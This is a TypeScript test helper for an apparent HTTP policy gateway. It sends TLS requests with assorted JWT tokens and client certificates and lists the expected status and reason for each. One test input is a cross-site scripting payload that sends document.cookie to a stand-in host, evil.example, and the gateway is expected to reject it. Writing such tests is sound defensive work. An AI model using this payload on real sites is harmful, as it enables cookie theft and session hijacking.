import { request } from "node:https";
import type { ForeignPolicy } from "./foreign-policy.ts";

export interface Ask {
  readonly method?: string;
  readonly path: string;
  readonly host?: string;
  readonly token?: string;
  /** With the certificate of the robot. */
  readonly robot?: boolean;
  readonly body?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

export interface Told {
  readonly status: number;
  readonly reason: string;
  readonly decision: string;
}

/** Sends a request over TLS, checked against the policy's authority; the public reason is that of the problem document. */
export function ask(place: ForeignPolicy, port: number, wish: Ask): Promise<Told> {
  const {
    method = wish.body === undefined ? "GET" : "POST",
    path,
    token,
    robot = false,
    body,
    host = "localhost",
  } = wish;
  const credentials = robot ? { cert: place.robot.certificatePem, key: place.robot.keyPem } : {};
  const headers = {
    host,
    ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
    ...(body === undefined ? {} : { "content-type": "application/json" }),
    ...wish.headers,
  };
  const address = { host: "127.0.0.1", port, servername: "localhost", ca: place.authority.certificatePem };
  return new Promise((done, refuse) => {
    const call = request({ ...address, ...credentials, method, path, headers, agent: false }, (response) => {
      let text = "";
      response.setEncoding("utf8");
      response.on("data", (part: string) => {
        text += part;
      });
      response.on("end", () => {
        const problem = response.headers["content-type"] === "application/problem+json";
        const { reason } = problem ? (JSON.parse(text) as { reason: string }) : { reason: text.slice(0, 80) };
        const decision = response.headers["x-postern-decision"];
        done({ status: response.statusCode ?? 0, reason, decision: typeof decision === "string" ? decision : "" });
      });
      response.on("error", refuse);
    });
    call.on("error", refuse);
    call.end(body);
  });
}

/** Requests of every kind that the policy tells apart, and what becomes of them: status and public reason. */
export async function visits({ shop }: ForeignPolicy): Promise<(readonly [Ask, status: number, reason: string])[]> {
  const reader = await shop.token("RS256", "stock:read");
  const clerk = await shop.token("ES256", "profile", { claims: { role: "clerk" } });
  const stranger = await shop.token("RS256", "profile");
  const foreign = await shop.token("RS256", "stock:read", { claims: { aud: "other" } });
  const listed = await shop.token("RS256", "", { claims: { scope: ["stock:list", "stock:read"] } });
  const lasting = await shop.token("RS256", "stock:read", {
    claims: { exp: 253_402_300_799, nbf: 1.5, iat: 1e9 + 0.25 },
  });
  const attack = JSON.stringify({ note: "<script>fetch('//evil.example/?c='+document.cookie)</script>" });
  return [
    [{ path: "/alive" }, 200, "ok"],
    [{ path: "/shelves/own?q=blue" }, 200, "ok"],
    [{ path: "/shelves/7" }, 401, "unauthenticated"],
    [{ path: "/shelves/7", token: foreign }, 401, "unauthenticated"],
    [{ path: "/shelves/7", token: stranger }, 403, "forbidden"],
    [{ path: "/shelves/7", token: reader }, 200, "ok"],
    [{ path: "/shelves/7", headers: { authorization: `BEARER ${reader}` } }, 200, "ok"],
    [{ path: "/shelves/7", token: clerk }, 200, "ok"],
    [{ path: "/shelves/7", token: listed }, 200, "ok"],
    [{ path: "/shelves/7", token: lasting }, 200, "ok"],
    [{ path: "/shelves/7", robot: true }, 200, "ok"],
    [{ path: "/shelves/7/8", token: reader }, 403, "forbidden"],
    [{ path: "/nowhere" }, 403, "forbidden"],
    [{ path: "/notes/a/b", body: JSON.stringify({ note: "two boxes, please" }) }, 200, "ok"],
    [{ path: "/notes/a", body: attack }, 403, "request_rejected"],
    [{ path: "/notes/a", body: JSON.stringify("a long story. ".repeat(1000)) }, 413, "body_too_large"],
    [{ path: "/notes/a", host: "elsewhere.example", body: "{}" }, 403, "forbidden"],
  ];
}
